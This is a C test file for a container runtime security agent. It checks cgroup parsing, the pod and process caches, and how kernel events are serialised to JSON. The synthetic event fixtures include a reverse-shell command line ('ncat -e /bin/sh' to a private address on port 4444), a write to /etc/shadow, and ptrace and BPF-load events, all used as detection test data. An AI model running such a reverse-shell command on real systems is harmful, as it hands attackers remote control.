/*
 * test_agent.c — the agent's user-space parts without BPF: cgroup path
 * parsing, the cgroup2 mount lookup, the pod and process caches, and the
 * event → JSON writer (fed synthetic events, read back with the engine's
 * JSON reader).  Runs plain and under ASan+UBSan; needs no privileges.
 */
#include <fcntl.h>
#include <linux/types.h>
#include <stdlib.h>
#include <unistd.h>

#include "agent/agent.h"
#include "agent/agent_int.h"
#include "agent/bpf/events.h"
#include "agent/bpf/syscalls.h"
#include "agent/containers.h"
#include "agent/event.h"
#include "agent/pods.h"
#include "agent/procs.h"
#include "agent/sensors.h"
#include "agent/json_query.h"
#include "t.h"

#define HEX_A "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
#define HEX_B "fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210"
#define UID_A "8f3c2a10-1b2c-4d5e-8f90-0123456789ab"
#define UID_A_ "8f3c2a10_1b2c_4d5e_8f90_0123456789ab"
#define UID_B "11111111-2222-3333-4444-555555555555"

/* ---- cgroup paths ------------------------------------------------------------ */

static const struct {
    const char *path;
    bool container; /* parse's result */
    const char *id, *pod;
    agent_runtime rt;
} cgroup_cases[] = {
    {"/", false, "", "", AGENT_RT_NONE},
    {"/system.slice/sshd.service", false, "", "", AGENT_RT_NONE},
    {"/user.slice/user-0.slice/session-1.scope", false, "", "", AGENT_RT_NONE},
    {"/kubepods/besteffort/pod" UID_A "/" HEX_A, true, HEX_A, UID_A, AGENT_RT_UNKNOWN},
    {"/kubepods/pod" UID_A "/" HEX_A, true, HEX_A, UID_A, AGENT_RT_UNKNOWN},
    {"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod" UID_A_
     ".slice/cri-containerd-" HEX_A ".scope",
     true, HEX_A, UID_A, AGENT_RT_CONTAINERD},
    {"/kubepods.slice/kubepods-pod" UID_A_ ".slice/crio-" HEX_B ".scope", true, HEX_B, UID_A,
     AGENT_RT_CRIO},
    {"/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod" UID_A_
     ".slice/docker-" HEX_A ".scope",
     true, HEX_A, UID_A, AGENT_RT_DOCKER},
    {"/system.slice/docker-" HEX_A ".scope", true, HEX_A, "", AGENT_RT_DOCKER},
    {"/docker/" HEX_B, true, HEX_B, "", AGENT_RT_DOCKER},
    {"/machine.slice/libpod-" HEX_A ".scope", true, HEX_A, "", AGENT_RT_PODMAN},
    /* conmon is CRI-O's monitor, not the container; the pod is still known */
    {"/kubepods.slice/kubepods-pod" UID_A_ ".slice/crio-conmon-" HEX_A ".scope", true, "", UID_A,
     AGENT_RT_NONE},
    /* nested (kind, docker-in-docker): the innermost container wins */
    {"/docker/" HEX_A "/kubepods/besteffort/pod" UID_B "/" HEX_B, true, HEX_B, UID_B,
     AGENT_RT_UNKNOWN},
    /* not ids: upper case, 63 digits, a bad uuid */
    {"/docker/0123456789ABCDEF0123456789abcdef0123456789abcdef0123456789abcdef", false, "", "",
     AGENT_RT_NONE},
    {"/docker/123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", false, "", "",
     AGENT_RT_NONE},
    {"/kubepods/podnot-a-uuid/x", false, "", "", AGENT_RT_NONE},
    {"//kubepods//pod" UID_A "//", true, "", UID_A, AGENT_RT_NONE},
};

static void test_cgroup_parse(void)
{
    for (size_t i = 0; i < RP_ARRAY_LEN(cgroup_cases); i++) {
        agent_cgroup_info info;
        bool got = agent_cgroup_parse(cgroup_cases[i].path, &info);
        T_CHECKM(got == cgroup_cases[i].container, "case %zu: %s", i, cgroup_cases[i].path);
        T_STREQ(info.id, cgroup_cases[i].id);
        T_STREQ(info.pod_uid, cgroup_cases[i].pod);
        T_CHECKM(info.runtime == cgroup_cases[i].rt, "case %zu: runtime %d", i, info.runtime);
    }
    T_STREQ(agent_runtime_name(AGENT_RT_CRIO), "cri-o");
    T_STREQ(agent_runtime_name(AGENT_RT_NONE), "");
}

static void test_cgroup2_mount(void)
{
    char path[] = "/tmp/rampart-test-mountinfo-XXXXXX", out[256];
    rp_error err = {0};
    int fd = mkstemp(path);
    const char *text =
        "22 1 0:21 / /sys rw,nosuid shared:7 - sysfs sysfs rw\n"
        "36 25 0:31 / /sys/fs/cgroup/my\\040unified rw,nosuid shared:10 - cgroup2 cgroup2 rw\n";

    T_CHECK(fd >= 0);
    T_CHECK(write(fd, text, strlen(text)) == (ssize_t)strlen(text));
    close(fd);
    T_CHECK(agent_cgroup2_mount(path, out, sizeof(out), &err) == RP_OK);
    T_STREQ(out, "/sys/fs/cgroup/my unified");
    fd = open(path, O_WRONLY | O_TRUNC);
    T_CHECK(write(fd, "22 1 0:21 / /sys rw - sysfs sysfs rw\n", 37) == 37);
    close(fd);
    T_CHECK(agent_cgroup2_mount(path, out, sizeof(out), &err) == RP_ERR_IO);
    unlink(path);
}

/* A resolver standing in for open_by_handle_at. */
static bool fake_resolve(void *ctx, uint64_t id, char *path, size_t cap)
{
    (void)ctx;
    if (id == 4242)
        snprintf(path, cap, "/kubepods/besteffort/pod%s/%s", UID_A, HEX_A);
    else if (id == 4343)
        snprintf(path, cap, "/system.slice/cron.service");
    else if (id == 4444)
        snprintf(path, cap, "/kubepods/burstable/pod%s", UID_B);
    else
        return false;
    return true;
}

static agent_cgroups *fake_cgroups(void)
{
    rp_error err = {0};
    agent_cgroups *c = agent_cgroups_new("/", &err);
    if (c)
        agent_cgroups_set_resolver(c, fake_resolve, NULL);
    return c;
}

static void test_cgroup_cache(void)
{
    agent_cgroups *c = fake_cgroups();
    const agent_cgroup_entry *e;

    T_CHECK(c != NULL);
    if (!c)
        return;
    e = agent_cgroups_get(c, 1);
    T_CHECK(e && e->host && e->resolved);
    e = agent_cgroups_get(c, 4242);
    T_CHECK(e && !e->host && e->resolved);
    T_STREQ(e ? e->info.id : NULL, HEX_A);
    e = agent_cgroups_get(c, 4343);
    T_CHECK(e && e->host);
    e = agent_cgroups_get(c, 999); /* gone */
    T_CHECK(e && !e->resolved && !e->host);
    T_STREQ(e ? e->path : NULL, "");
    /* more cgroups than the cache holds: it restarts, answers stay right */
    for (uint64_t id = 10000; id < 10000 + AGENT_CGROUP_CACHE_MAX + 10; id++)
        agent_cgroups_get(c, id);
    e = agent_cgroups_get(c, 4242);
    T_STREQ(e ? e->info.id : NULL, HEX_A);
    agent_cgroups_free(c);
}

/* ---- pods ---------------------------------------------------------------------- */

static const char podlist[] =
    "{\"apiVersion\":\"v1\",\"kind\":\"PodList\",\"items\":["
    "{\"metadata\":{\"name\":\"web-1\",\"namespace\":\"shop\",\"uid\":\"" UID_A "\","
    "\"labels\":{\"app\":\"web\",\"tier\":\"front\"}},"
    "\"spec\":{\"nodeName\":\"node-a\"},"
    "\"status\":{\"containerStatuses\":[{\"name\":\"nginx\",\"image\":\"nginx:1.25\","
    "\"containerID\":\"containerd://" HEX_A "\"},{\"name\":\"pending\",\"image\":\"x\"}],"
    "\"initContainerStatuses\":[{\"name\":\"init\",\"image\":\"busybox\","
    "\"containerID\":\"cri-o://" HEX_B "\"}]}},"
    "{\"metadata\":{\"name\":\"db-0\",\"namespace\":\"shop\",\"uid\":\"" UID_B "\"},"
    "\"spec\":{\"nodeName\":\"node-b\"},\"status\":{}}]}";

static void test_pods(void)
{
    agent_pods *p = agent_pods_new();
    rp_error err = {0};
    const agent_pod_container *c;
    const agent_pod *pod;

    T_CHECK(agent_pods_load_json(p, podlist, strlen(podlist), NULL, &err) == RP_OK);
    T_CHECK(agent_pods_count(p) == 2);
    c = agent_pods_container(p, HEX_A);
    T_CHECK(c != NULL);
    if (c) {
        T_STREQ(c->name, "nginx");
        T_STREQ(c->image, "nginx:1.25");
        T_STREQ(c->runtime, "containerd");
        T_STREQ(c->pod->name, "web-1");
        T_STREQ(c->pod->labels_json, "{\"app\":\"web\",\"tier\":\"front\"}");
    }
    c = agent_pods_container(p, HEX_B);
    T_STREQ(c ? c->runtime : NULL, "cri-o");
    T_STREQ(c ? c->name : NULL, "init");
    pod = agent_pods_by_uid(p, UID_B);
    T_STREQ(pod ? pod->labels_json : NULL, "{}");
    T_CHECK(agent_pods_container(p, "") == NULL);

    /* node filter; a bad document leaves the cache as it was */
    uint64_t gen = agent_pods_generation(p);
    T_CHECK(agent_pods_load_json(p, "{\"items\":[", 10, NULL, &err) == RP_ERR_SYNTAX);
    T_CHECK(agent_pods_count(p) == 2 && agent_pods_generation(p) == gen);
    rp_error_clear(&err);
    const char *no_uid = "{\"items\":[{\"metadata\":{\"name\":\"x\"}}]}";
    T_CHECK(agent_pods_load_json(p, no_uid, strlen(no_uid), NULL, &err) == RP_ERR_TYPE);
    T_CHECK(agent_pods_count(p) == 2);
    rp_error_clear(&err);
    T_CHECK(agent_pods_load_json(p, podlist, strlen(podlist), "node-b", &err) == RP_OK);
    T_CHECK(agent_pods_count(p) == 1 && agent_pods_container(p, HEX_A) == NULL);

    /* watch-style updates: put replaces by uid, delete removes */
    T_CHECK(agent_pods_load_json(p, podlist, strlen(podlist), NULL, &err) == RP_OK);
    agent_pods_delete(p, UID_A);
    T_CHECK(agent_pods_count(p) == 1 && agent_pods_by_uid(p, UID_A) == NULL);
    agent_pods_delete(p, "no-such-uid");
    T_CHECK(agent_pods_count(p) == 1);
    T_STREQ(agent_pods_by_uid(p, UID_B) ? agent_pods_by_uid(p, UID_B)->name : NULL, "db-0");
    agent_pods_free(p);
    agent_pods_free(NULL);
}

/* ---- processes ------------------------------------------------------------------- */

static void test_procs(void)
{
    agent_procs *p = agent_procs_new(NULL);
    const agent_proc *e;
    char cmd[16];

    agent_procs_exec(p, 100, 5, "sh", "/bin/sh", "sh -c x");
    e = agent_procs_get(p, 100, 5);
    T_STREQ(e ? e->exe : NULL, "/bin/sh");
    T_STREQ(e ? e->name : NULL, "sh");
    T_CHECK(agent_procs_get(p, 100, 6) == NULL); /* recycled pid: another process */
    agent_procs_fork(p, 101, 7, 100);
    e = agent_procs_get(p, 101, 7);
    T_STREQ(e ? e->cmdline : NULL, "sh -c x");
    agent_procs_exit(p, 100);
    T_CHECK(agent_procs_get(p, 100, 0) == NULL);
    T_CHECK(agent_procs_get(p, 101, 0) != NULL);

    /* deletion keeps colliding entries reachable */
    for (uint32_t pid = 1000; pid < 6000; pid++)
        agent_procs_exec(p, pid, pid, "x", "/x", "x");
    for (uint32_t pid = 1000; pid < 6000; pid += 2)
        agent_procs_exit(p, pid);
    bool all = true;
    for (uint32_t pid = 1001; pid < 6000; pid += 2)
        all = all && agent_procs_get(p, pid, pid) != NULL;
    T_CHECK(all);
    T_CHECK(agent_procs_count(p) == 2500 + 1);
    agent_procs_free(p);

    /* a process that predates the agent is read from /proc */
    p = agent_procs_new("/proc");
    e = agent_procs_get(p, (uint32_t)getpid(), 0);
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
    self[n > 0 ? n : 0] = 0;
    T_STREQ(e ? e->exe : NULL, self);
    T_CHECK(e && e->cmdline && strstr(e->cmdline, "test_agent"));
    agent_procs_free(p);

    T_CHECK(agent_args_to_cmdline("a\0b c\0\0", 7, cmd, sizeof(cmd)) == 5);
    T_STREQ(cmd, "a b c");
    T_CHECK(agent_args_to_cmdline("abcdef", 6, cmd, 4) == 3);
    T_STREQ(cmd, "abc");
}

/* ---- event JSON -------------------------------------------------------------------- */

typedef struct {
    agent_enrich en;
    rp_arena *a;
    rp_buf out;
} fixture;

static void fixture_init(fixture *f)
{
    rp_error err = {0};
    memset(f, 0, sizeof(*f));
    f->en.cgroups = fake_cgroups();
    f->en.pods = agent_pods_new();
    f->en.procs = agent_procs_new(NULL);
    f->en.boot_to_epoch_ns = 1000000000;
    f->a = rp_arena_new(0);
    rp_buf_init(&f->out);
    T_CHECK(agent_pods_load_json(f->en.pods, podlist, strlen(podlist), NULL, &err) == RP_OK);
}

static void fixture_free(fixture *f)
{
    agent_cgroups_free(f->en.cgroups);
    agent_pods_free(f->en.pods);
    agent_procs_free(f->en.procs);
    rp_arena_free(f->a);
    rp_buf_free(&f->out);
}

/* Writes one event and parses the line back (UNDEF when nothing or not JSON). */
static rego_value emit(fixture *f, const void *ev, size_t size)
{
    rego_value v = rego_undef();
    f->out.len = 0;
    if (!agent_event_json(&f->en, ev, size, &f->out))
        return v;
    if (!jq_parse(f->a, rp_buf_cstr(&f->out), &v))
        fprintf(stderr, "not JSON: %s\n", rp_buf_cstr(&f->out));
    return v;
}

static void hdr(struct rp_event_hdr *h, uint16_t type, uint32_t size, uint64_t cgroup)
{
    memset(h, 0, sizeof(*h));
    h->type = type;
    h->size = size;
    h->ts_ns = 5;
    h->cgroup_id = cgroup;
    h->start_ns = 3;
    h->tgid = 4000;
    h->tid = 4001;
    h->ppid = 1;
    h->uid = 1000;
    h->gid = 1000;
    h->euid = 0;
    memcpy(h->comm, "ncat", 5);
}

static void test_exec_json(fixture *f)
{
    struct rp_exec_event e;
    const char args[] = "ncat\0-e\0/bin/sh\0" "10.0.0.1\0" "4444";
    rego_value v;

    memset(&e, 0, sizeof(e));
    hdr(&e.hdr, RP_EV_EXEC, 0, 4242);
    strcpy(e.exe, "/usr/bin/ncat");
    strcpy(e.filename, "/usr/bin/nc");
    strcpy(e.cwd, "/");
    strcpy(e.parent_exe, "/bin/dash");
    strcpy(e.parent_comm, "sh");
    strcpy(e.tty, "pts0");
    e.cap_effective = 0x1ffffffffffull;
    e.argc = 5;
    memcpy(e.args, args, sizeof(args));
    e.args_len = sizeof(args);
    e.hdr.size = (uint32_t)(__builtin_offsetof(struct rp_exec_event, args) + e.args_len);
    v = emit(f, &e, e.hdr.size);
    T_STREQ(jq_str(v, "type"), "exec");
    T_CHECK(jq_int(v, "time_ns", 0) == 1000000005);
    T_CHECK(jq_bool(v, "host") == 0);
    T_STREQ(jq_show(v, "process.args"), "[\"ncat\",\"-e\",\"/bin/sh\",\"10.0.0.1\",\"4444\"]");
    T_STREQ(jq_str(v, "process.cmdline"), "ncat -e /bin/sh 10.0.0.1 4444");
    T_STREQ(jq_str(v, "process.exe"), "/usr/bin/ncat");
    T_STREQ(jq_str(v, "process.filename"), "/usr/bin/nc");
    T_STREQ(jq_str(v, "process.name"), "ncat");
    T_STREQ(jq_str(v, "process.tty"), "pts0");
    T_CHECK(jq_int(v, "process.pid", 0) == 4000 && jq_int(v, "process.tid", 0) == 4001);
    T_CHECK(jq_int(v, "process.uid", -1) == 1000 && jq_int(v, "process.euid", -1) == 0);
    T_CHECK(jq_int(v, "process.cap_effective", 0) == 0x1ffffffffffll);
    T_CHECK(jq_bool(v, "process.args_truncated") == 0);
    T_STREQ(jq_str(v, "parent.exe"), "/bin/dash");
    T_STREQ(jq_str(v, "parent.name"), "sh");
    T_STREQ(jq_str(v, "container.id"), HEX_A);
    T_STREQ(jq_str(v, "container.name"), "nginx");
    T_STREQ(jq_str(v, "container.image"), "nginx:1.25");
    T_STREQ(jq_str(v, "container.runtime"), "containerd");
    T_CHECK(jq_int(v, "container.cgroup_id", 0) == 4242);
    T_STREQ(jq_str(v, "pod.namespace"), "shop");
    T_STREQ(jq_str(v, "pod.name"), "web-1");
    T_STREQ(jq_str(v, "pod.uid"), UID_A);
    T_STREQ(jq_str(v, "pod.labels.app"), "web");

    /* truncated argv and hostile bytes still make valid JSON */
    e.flags = RP_EXEC_ARGS_TRUNCATED | RP_EXEC_EXE_MEMFD;
    memcpy(e.args, "a\"b\n\xff\0", 6);
    e.args_len = 6;
    e.hdr.size = (uint32_t)(__builtin_offsetof(struct rp_exec_event, args) + 6);
    strcpy(e.exe, "/memfd:x\x01 (deleted)");
    v = emit(f, &e, e.hdr.size);
    T_STREQ(jq_show(v, "process.args"), "[\"a\\\"b\\n\xef\xbf\xbd\"]");
    T_CHECK(jq_bool(v, "process.args_truncated") == 1);
    T_CHECK(jq_bool(v, "process.exe_from_memfd") == 1);
    T_STREQ(jq_str(v, "process.exe"), "/memfd:x\x01 (deleted)");
    /* the exec taught the process cache: a later connect names the program */
    struct rp_net_event n;
    memset(&n, 0, sizeof(n));
    hdr(&n.hdr, RP_EV_CONNECT, sizeof(n), 4242);
    v = emit(f, &n, sizeof(n));
    T_STREQ(jq_str(v, "process.exe"), "/memfd:x\x01 (deleted)");
}

static void test_net_json(fixture *f)
{
    struct rp_net_event e;
    rego_value v;
    const uint8_t v6[16] = {0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};

    memset(&e, 0, sizeof(e));
    hdr(&e.hdr, RP_EV_CONNECT, sizeof(e), 4242);
    e.syscall = RP_NR_connect;
    e.family = 2;
    e.proto = 6;
    e.fd = 3;
    memcpy(e.saddr, "\x0a\x00\x00\x05", 4);
    memcpy(e.daddr, "\x0a\x00\x00\x01", 4);
    e.sport = 40000;
    e.dport = 4444;
    e.result = -115;
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "type"), "connect");
    T_STREQ(jq_str(v, "network.syscall"), "connect");
    T_STREQ(jq_str(v, "network.proto"), "tcp");
    T_STREQ(jq_str(v, "network.family"), "ipv4");
    T_STREQ(jq_str(v, "network.saddr"), "10.0.0.5");
    T_STREQ(jq_str(v, "network.daddr"), "10.0.0.1");
    T_CHECK(jq_int(v, "network.sport", 0) == 40000 && jq_int(v, "network.dport", 0) == 4444);
    T_CHECK(jq_int(v, "network.result", 0) == -115);
    e.hdr.type = RP_EV_SEND;
    e.syscall = RP_NR_sendto;
    e.family = 10;
    e.proto = 17;
    memcpy(e.daddr, v6, 16);
    e.dport = 53;
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "type"), "send");
    T_STREQ(jq_str(v, "network.daddr"), "fd00::1");
    T_STREQ(jq_str(v, "network.proto"), "udp");
    T_STREQ(jq_str(v, "network.family"), "ipv6");
}

static void test_file_json(fixture *f)
{
    struct rp_file_event e;
    rego_value v;

    memset(&e, 0, sizeof(e));
    hdr(&e.hdr, RP_EV_OPEN, sizeof(e), 1);
    e.syscall = RP_NR_openat;
    e.flags = 01101; /* O_WRONLY|O_CREAT|O_TRUNC */
    e.mode = 0600;
    e.result = 3;
    strcpy(e.path, "/etc/shadow");
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "file.path"), "/etc/shadow");
    T_STREQ(jq_str(v, "file.syscall"), "openat");
    T_CHECK(jq_bool(v, "file.write") == 1);
    T_CHECK(jq_int(v, "file.mode", 0) == 0600 && jq_int(v, "file.result", 0) == 3);
    T_CHECK(jq_bool(v, "host") == 1);
    T_STREQ(jq_str(v, "container.id"), "host");
    T_CHECK(jq_is_null(v, "pod"));
    T_CHECK(jq_get(v, "file.new_path").kind == REGO_UNDEF);
    e.hdr.type = RP_EV_RENAME;
    e.syscall = RP_NR_renameat2;
    strcpy(e.path2, "/etc/shadow-");
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "file.new_path"), "/etc/shadow-");
    T_CHECK(jq_get(v, "file.write").kind == REGO_UNDEF);
}

static void test_priv_json(fixture *f)
{
    struct rp_priv_event e;
    rego_value v;

    memset(&e, 0, sizeof(e));
    hdr(&e.hdr, RP_EV_SETUID, sizeof(e), 4444);
    e.syscall = RP_NR_setresuid;
    e.args[0] = 0xffffffff;
    e.args[1] = 0;
    e.args[2] = 0xffffffff;
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "priv.syscall"), "setresuid");
    T_CHECK(jq_int(v, "priv.ruid", 0) == -1 && jq_int(v, "priv.euid", 1) == 0 &&
            jq_int(v, "priv.suid", 0) == -1);
    /* a pod cgroup without a container: pod known, container id empty */
    T_STREQ(jq_str(v, "pod.name"), "db-0");
    T_STREQ(jq_str(v, "container.id"), "");
    T_CHECK(jq_bool(v, "host") == 0);

    memset(e.args, 0, sizeof(e.args));
    e.hdr.type = RP_EV_PTRACE;
    e.syscall = RP_NR_ptrace;
    e.args[0] = 16;
    e.args[1] = 77;
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "priv.request_name"), "PTRACE_ATTACH");
    T_CHECK(jq_int(v, "priv.target_pid", 0) == 77);

    e.hdr.type = RP_EV_UNSHARE;
    e.syscall = RP_NR_unshare;
    e.args[0] = 0x40000000 | 0x00020000;
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_show(v, "priv.namespaces"), "[\"mnt\",\"net\"]");

    e.hdr.type = RP_EV_BPF;
    e.syscall = RP_NR_bpf;
    e.args[0] = 5;
    e.args[1] = 26;
    strcpy(e.str2, "evil");
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "priv.cmd_name"), "BPF_PROG_LOAD");
    T_STREQ(jq_str(v, "priv.name"), "evil");
    T_CHECK(jq_int(v, "priv.prog_type", 0) == 26);

    e.hdr.type = RP_EV_MOUNT;
    e.syscall = RP_NR_mount;
    strcpy(e.str0, "/dev/sda1");
    strcpy(e.str1, "/mnt");
    strcpy(e.str2, "ext4");
    v = emit(f, &e, sizeof(e));
    T_STREQ(jq_str(v, "priv.source"), "/dev/sda1");
    T_STREQ(jq_str(v, "priv.fstype"), "ext4");
    T_STREQ(jq_str(v, "priv.target"), "/mnt");
}

static void test_lifecycle_json(fixture *f)
{
    struct rp_exit_event x;
    struct rp_fork_event k;
    rego_value v;

    memset(&k, 0, sizeof(k));
    hdr(&k.hdr, RP_EV_FORK, sizeof(k), 4242);
    k.hdr.tgid = 4100;
    k.hdr.ppid = 4000;
    v = emit(f, &k, sizeof(k));
    T_STREQ(jq_str(v, "type"), "fork");
    T_CHECK(jq_int(v, "parent.pid", 0) == 4000);
    T_STREQ(jq_str(v, "parent.exe"), "/memfd:x\x01 (deleted)"); /* from the exec test */
    memset(&x, 0, sizeof(x));
    hdr(&x.hdr, RP_EV_EXIT, sizeof(x), 4242);
    x.hdr.tgid = 4100;
    x.status = 7 << 8;
    v = emit(f, &x, sizeof(x));
    T_CHECK(jq_int(v, "exit.code", -1) == 7 && jq_int(v, "exit.signal", -1) == 0);
    T_STREQ(jq_str(v, "process.exe"), "/memfd:x\x01 (deleted)"); /* inherited at fork */
    x.status = 9 | 0x80;
    v = emit(f, &x, sizeof(x));
    T_CHECK(jq_int(v, "exit.signal", -1) == 9 && jq_bool(v, "exit.core_dumped") == 1);
    T_CHECK(jq_is_null(v, "process.exe")); /* the first exit removed it */
}

static void test_malformed(fixture *f)
{
    struct rp_file_event e;

    memset(&e, 0, sizeof(e));
    hdr(&e.hdr, RP_EV_OPEN, sizeof(e), 1);
    f->out.len = 0;
    T_CHECK(!agent_event_json(&f->en, &e, sizeof(e.hdr) - 1, &f->out));
    T_CHECK(!agent_event_json(&f->en, &e, sizeof(e) - 1, &f->out)); /* shorter than its type */
    e.hdr.type = RP_EV_TYPE_COUNT;
    T_CHECK(!agent_event_json(&f->en, &e, sizeof(e), &f->out));
    e.hdr.type = RP_EV_NONE;
    T_CHECK(!agent_event_json(&f->en, &e, sizeof(e), &f->out));
    e.hdr.type = RP_EV_OPEN;
    e.hdr.size = sizeof(e) + 1; /* claims more than arrived */
    T_CHECK(!agent_event_json(&f->en, &e, sizeof(e), &f->out));
    T_CHECK(f->out.len == 0);
    struct rp_exec_event x;
    memset(&x, 0, sizeof(x));
    hdr(&x.hdr, RP_EV_EXEC, (uint32_t)__builtin_offsetof(struct rp_exec_event, args), 1);
    x.args_len = RP_ARGS_MAX; /* lies: no args arrived */
    rego_value v = emit(f, &x, x.hdr.size);
    T_STREQ(jq_show(v, "process.args"), "[]");
}

static void test_event_json(void)
{
    fixture f;
    fixture_init(&f);
    test_exec_json(&f);
    test_net_json(&f);
    test_file_json(&f);
    test_priv_json(&f);
    test_lifecycle_json(&f);
    test_malformed(&f);
    fixture_free(&f);
}

/* ---- config bits ------------------------------------------------------------------- */

static void test_config(void)
{
    uint64_t bits = 0;
    agent_config cfg;
    rp_error err = {0};
    const char *rel[] = {"etc/"};
    char longp[RP_WATCH_KEY_MAX + 2];

    T_CHECK(agent_event_type_parse("exec", 4, &bits) && bits == RP_TYPE_BIT(RP_EV_EXEC));
    T_CHECK(agent_event_type_parse("network", 7, &bits));
    T_CHECK(bits & RP_TYPE_BIT(RP_EV_SEND) && bits & RP_TYPE_BIT(RP_EV_CONNECT));
    T_CHECK(!agent_event_type_parse("bogus", 5, &bits));
    bits = 0;
    T_CHECK(agent_event_type_parse("all", 3, &bits) && bits == AGENT_TYPES_ALL);
    T_CHECK(!(AGENT_TYPES_ALL & 1) && (AGENT_TYPES_ALL >> RP_EV_MEMFD & 1));
    T_STREQ(agent_event_type_name(RP_EV_MEMFD), "memfd_create");
    T_STREQ(agent_event_type_name(99), "");
    T_STREQ(agent_syscall_name(RP_NR_openat2), "openat2");
    T_STREQ(agent_syscall_name(9999), "unknown");

    agent_config_defaults(&cfg);
    T_CHECK(cfg.nwatch > 0 && cfg.nudp == 1 && cfg.udp_ports[0] == 53);
    T_CHECK(agent_file_check_prefixes(cfg.watch, cfg.nwatch, &err) == RP_OK);
    /* the defaults let the quick filter look at 8 bytes: /etc/ld.so.cache is not "/etc/sha" */
    T_CHECK(agent_file_quick_len(cfg.watch, cfg.nwatch) == RP_WATCH_QUICK_MAX);
    T_CHECK(agent_file_check_prefixes(rel, 1, &err) == RP_ERR_SYNTAX);
    rp_error_clear(&err);
    memset(longp, 'a', sizeof(longp) - 1);
    longp[0] = '/';
    longp[sizeof(longp) - 1] = 0;
    const char *lp[] = {longp};
    T_CHECK(agent_file_check_prefixes(lp, 1, &err) == RP_ERR_LIMIT);
    /* the kernel's quick filter hashes the little-endian first k bytes */
    T_CHECK(agent_file_bloom_bit("/etc/shadow", 8) ==
            (uint32_t)((0x6168732f6374652full * 0x9E3779B97F4A7C15ull) >> 52));
    T_CHECK(agent_file_bloom_bit("/etc/", 4) == agent_file_bloom_bit("/etcX", 4));
    T_CHECK(agent_file_bloom_bit("/e", 8) == agent_file_bloom_bit("/e\0\0", 8));
    const char *two[] = {"/etc/ssh/", "/ab"};
    T_CHECK(agent_file_quick_len(two, 2) == 3 &&
            agent_file_quick_len(two, 0) == RP_WATCH_QUICK_NONE);
}

static void test_drops_json(void)
{
    rp_buf b;
    agent_stats st = {.drops = 7, .inflight_full = 1};
    uint64_t per[2] = {3, 4};
    rp_arena *a = rp_arena_new(0);
    rego_value v;

    rp_buf_init(&b);
    agent_drops_json(&b, 5, &st, per, 2, 0);
    T_CHECK(jq_parse(a, rp_buf_cstr(&b), &v));
    T_STREQ(jq_str(v, "type"), "drops");
    T_CHECK(jq_int(v, "lost", 0) == 5 && jq_int(v, "drops", 0) == 7);
    T_STREQ(jq_show(v, "per_cpu_drops"), "[3,4]");
    rp_buf_free(&b);
    rp_arena_free(a);
}

int main(void)
{
    test_cgroup_parse();
    test_cgroup2_mount();
    test_cgroup_cache();
    test_pods();
    test_procs();
    test_event_json();
    test_config();
    test_drops_json();
    return T_DONE();
}
